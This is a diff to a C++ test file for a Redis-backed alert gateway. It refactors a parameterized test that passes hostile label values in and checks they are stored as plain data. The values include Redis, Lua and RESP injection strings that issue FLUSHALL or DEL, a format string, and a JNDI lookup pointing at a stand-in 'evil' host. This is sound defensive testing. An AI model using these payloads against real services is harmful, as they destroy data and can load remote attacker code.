@@ -180,11 +180,17 @@ TEST_F(PayloadValidation, UnicodeLabelsRoundTripByteForByte) {
 
 // Values that look like code or protocol to a careless gateway: Lua, Redis commands, RESP, hash
 // tags, globs, format strings. Each is used as alertname, namespace and pod at once.
-class HostileLabel : public PayloadValidation,
-                     public ::testing::WithParamInterface<std::pair<const char*, std::string>> {};
+struct Hostile {
+  const char* name;
+  std::string value;
+};
+// Only the name: the values would break test discovery (CMake lists choke on brackets).
+void PrintTo(const Hostile& c, std::ostream* out) { *out << c.name; }
+
+class HostileLabel : public PayloadValidation, public ::testing::WithParamInterface<Hostile> {};
 
 TEST_P(HostileLabel, IsStoredAsPlainData) {
-  const std::string& value = GetParam().second;
+  const std::string& value = GetParam().value;
   redis().Command({"SET", "sentinel:untouched", "1", "EX", "30"});
   auto& gateway = Start();
   const auto alert = PodAlert(value, value, value);
@@ -204,18 +210,15 @@ TEST_P(HostileLabel, IsStoredAsPlainData) {
 }
 INSTANTIATE_TEST_SUITE_P(
     Values, HostileLabel,
-    ::testing::Values(
-        std::pair<const char*, std::string>{"SqlLike", "x'; FLUSHALL; --"},
-        std::pair<const char*, std::string>{"LuaCall", "\") redis.call('FLUSHALL') --"},
-        std::pair<const char*, std::string>{"LuaLongBracket", "]]..redis.call('DEL',KEYS[1])..[["},
-        std::pair<const char*, std::string>{"HashTag", "{evil}:{tag}"},
-        std::pair<const char*, std::string>{"Glob", "*?[a-z]\\"},
-        std::pair<const char*, std::string>{"Resp", "\r\n*1\r\n$8\r\nFLUSHALL\r\n"},
-        std::pair<const char*, std::string>{"FormatString", "%s%n%x%d{}"},
-        std::pair<const char*, std::string>{"NulByte", std::string("api\0evil", 8)},
-        std::pair<const char*, std::string>{"Separator", "a:b:c/d"},
-        std::pair<const char*, std::string>{"Jndi", "${jndi:ldap://evil/x}"}),
-    [](const auto& param_info) { return std::string(param_info.param.first); });
+    ::testing::Values(Hostile{"SqlLike", "x'; FLUSHALL; --"},
+                      Hostile{"LuaCall", "\") redis.call('FLUSHALL') --"},
+                      Hostile{"LuaLongBracket", "]]..redis.call('DEL',KEYS[1])..[["},
+                      Hostile{"HashTag", "{evil}:{tag}"}, Hostile{"Glob", "*?[a-z]\\"},
+                      Hostile{"Resp", "\r\n*1\r\n$8\r\nFLUSHALL\r\n"},
+                      Hostile{"FormatString", "%s%n%x%d{}"},
+                      Hostile{"NulByte", std::string("api\0evil", 8)},
+                      Hostile{"Separator", "a:b:c/d"}, Hostile{"Jndi", "${jndi:ldap://evil/x}"}),
+    [](const auto& param_info) { return std::string(param_info.param.name); });
 
 TEST_F(PayloadValidation, UnknownFieldsAreIgnored) {
   auto& gateway = Start();
